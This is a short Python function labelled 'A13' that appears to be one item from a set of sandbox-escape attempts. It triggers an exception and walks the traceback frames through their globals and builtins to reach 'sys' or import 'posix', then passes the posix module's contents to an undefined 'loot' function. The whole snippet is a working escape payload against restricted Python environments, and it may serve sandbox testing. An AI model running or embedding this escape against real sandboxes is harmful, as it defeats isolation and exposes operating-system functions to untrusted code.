# A13: e.__traceback__.tb_frame.f_back.f_globals['sys'].
def handle(request):
    out = []
    try:
        1 / 0
    except Exception as e:
        frame = e.__traceback__.tb_frame  # GATE
        while frame is not None:
            g = frame.f_globals
            out.append(str(sorted(g)))
            if 'sys' in g:
                return loot(g['sys'].modules['posix'].__dict__, out)
            imp = frame.f_builtins.get('__import__')
            if imp is not None:
                m = imp('posix')
                if m is not None:
                    return loot(m.__dict__, out)
            frame = frame.f_back
    return out
